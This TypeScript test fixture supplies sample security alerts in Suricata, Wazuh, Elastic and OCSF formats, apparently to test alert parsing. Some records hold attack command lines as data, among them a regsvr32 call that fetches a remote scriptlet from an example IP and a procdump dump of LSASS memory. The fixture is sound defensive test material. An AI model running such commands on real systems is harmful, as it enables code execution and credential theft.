import type { JsonObject } from '../../../shared/model/json.ts';

/**
 * One record of each product in its true shape. Addresses, names and texts are our own. The functions give a new
 * object each time, so that a test may change it.
 */
export function eveRecord(): JsonObject {
  return {
    timestamp: '2026-11-02T08:15:30.123456+0100',
    flow_id: 1834200099887766,
    in_iface: 'eth1',
    event_type: 'alert',
    src_ip: '203.0.113.24',
    src_port: 52044,
    dest_ip: '10.20.4.17',
    dest_port: 443,
    proto: 'TCP',
    tx_id: 0,
    host: 'sensor-02',
    alert: {
      action: 'allowed',
      gid: 1,
      signature_id: 2034567,
      rev: 3,
      signature: 'ET EXPLOIT Example appliance RCE attempt (CVE-2024-31999)',
      category: 'Attempted Administrator Privilege Gain',
      severity: 1,
      metadata: {
        signature_severity: ['Critical'],
        mitre_technique_id: ['T1190', 'T1059_001'],
        mitre_tactic_id: ['TA0001'],
        cve: ['CVE_2024_31999'],
        tag: ['Exploit_Kit'],
      },
    },
    http: { hostname: 'Vpn.Example.test', url: '/remote/login?x=1', http_method: 'POST', http_port: 8443 },
    tls: { sni: 'vpn.example.test' },
    fileinfo: { filename: '/remote/login', sha256: `${'A'.repeat(63)}1`, md5: '0'.repeat(32) },
  };
}

export function wazuhDocument(): JsonObject {
  return {
    timestamp: '2026-11-02T09:00:01.250+0000',
    rule: {
      level: 12,
      description: 'Encoded command started by powershell.exe &amp; cmd.exe',
      id: '92057',
      mitre: { id: ['T1059.001'], tactic: ['Execution', 'Defense Evasion'], technique: ['PowerShell'] },
      firedtimes: 1,
      groups: ['sysmon', '\n      windows', '\n    '],
    },
    agent: { id: '004', name: 'WS-ANA-01', ip: '10.20.4.31' },
    manager: { name: 'wazuh-a' },
    id: '1793610001.4242',
    decoder: { name: 'windows_eventchannel' },
    location: 'EventChannel',
    data: {
      win: {
        system: { computer: 'WS-ANA-01.corp.example', message: '"Process Create"', level: '4' },
        eventdata: {
          image: 'C:\\\\Windows\\\\System32\\\\cmd.exe',
          commandLine: '\\"C:\\\\Windows\\\\cmd.exe\\" /c a &gt; b &amp;&amp; c',
          parentImage: 'C:\\\\Windows\\\\explorer.exe',
          user: 'CORP\\\\ana',
          hashes: `SHA1=${'b'.repeat(40)},MD5=${'C'.repeat(32)},SHA256=${'0'.repeat(64)},IMPHASH=${'d'.repeat(32)}`,
          ipAddress: '::ffff:10.20.4.9',
          ipPort: '50211',
        },
      },
    },
  };
}

export function wazuhHit(): JsonObject {
  return { _index: 'wazuh-alerts-4.x-2026.11.02', _id: 'kQ0aBcD', _source: wazuhDocument(), sort: [1] };
}

/** Elastic 8.x: dotted keys beside nested objects. */
export function elasticAlert(): JsonObject {
  return {
    '@timestamp': '2026-11-02T10:05:00.000Z',
    'kibana.alert.uuid': 'c0ffee00aa',
    'kibana.alert.original_time': '2026-11-02T10:01:22.070Z',
    'kibana.alert.rule.name': 'Regsvr32 scriptlet',
    'kibana.alert.rule.rule_id': '9a1a2dae-example',
    'kibana.alert.rule.uuid': 'installation-only',
    'kibana.alert.reason': 'process event created high alert',
    'kibana.alert.severity': 'high',
    'kibana.alert.risk_score': 73,
    'kibana.alert.workflow_status': 'open',
    'kibana.alert.rule.parameters': {
      threat: [
        {
          framework: 'MITRE ATT&CK',
          tactic: { id: 'TA0005', name: 'Defense Evasion' },
          technique: [{ id: 'T1218', subtechnique: [{ id: 'T1218.010' }] }],
        },
      ],
    },
    'event.category': ['malware', 'process'],
    'event.type': ['info', 'denied'],
    host: { name: 'My-PC', ip: ['10.1.1.5', 'fe80::1'] },
    user: { name: 'ana', domain: 'CORP' },
    process: {
      executable: 'C:\\Windows\\System32\\regsvr32.exe',
      command_line: 'regsvr32.exe /s /i:http://198.51.100.7/a.sct',
      parent: { executable: 'C:\\Python\\python.exe' },
      hash: { sha256: 'e'.repeat(64) },
    },
    'source.ip': '10.1.1.5',
    destination: { ip: ['198.51.100.7'], port: 80 },
    dns: { question: { name: 'Bad.Example.test.' } },
  };
}

/** Elastic 7.x. */
export function elasticSignal(): JsonObject {
  return {
    _index: '.siem-signals-default-000001',
    _id: 'sig-1',
    _source: {
      '@timestamp': '2021-05-02T10:05:00.000Z',
      signal: {
        status: 'closed',
        original_time: '2021-05-02T10:00:00.000Z',
        rule: {
          name: 'Old rule',
          rule_id: 'old-rule-id',
          id: 'installation-only',
          risk_score: 21,
          severity: 'low',
          description: 'What the rule looks for',
          threat: [{ tactic: { name: 'Credential Access' }, technique: [{ id: 'T1110' }] }],
        },
      },
      host: { name: 'srv-old' },
    },
  };
}

export function ocsfFinding(): JsonObject {
  return {
    class_uid: 2004,
    class_name: 'Detection Finding',
    activity_id: 1,
    status_id: 1,
    severity_id: 4,
    time: 1793610001250,
    message: 'A process dumped credentials.',
    metadata: { version: '1.4.0', event_code: 'cred_dump', product: { name: 'Example EDR', vendor_name: 'Example' } },
    finding_info: {
      uid: 'finding-77',
      title: 'Credential dumping',
      desc: 'LSASS memory was read',
      types: ['Credential Access'],
      analytic: { uid: 'an-12', name: 'LSASS access' },
      attacks: [{ technique: { uid: 'T1003' }, sub_technique: { uid: 'T1003.001' }, tactics: [{ uid: 'TA0006' }] }],
    },
    device: { hostname: 'srv-dc-01', ip: '10.0.0.5' },
    actor: { user: { name: 'svc_backup', domain: 'CORP' } },
    evidences: [
      {
        src_endpoint: { ip: '10.0.0.9', port: 50123 },
        dst_endpoint: { ip: '10.0.0.5', port: 445 },
        process: {
          cmd_line: 'procdump -ma lsass.exe',
          file: { path: 'C:\\Temp\\procdump.exe', hashes: [{ algorithm_id: 3, value: 'f'.repeat(64) }] },
          parent_process: { file: { path: 'C:\\Windows\\System32\\cmd.exe' } },
        },
        url: { url_string: 'https://files.example.test/p.exe' },
      },
    ],
    observables: [{ type_id: 4, value: 'administrator' }],
  };
}
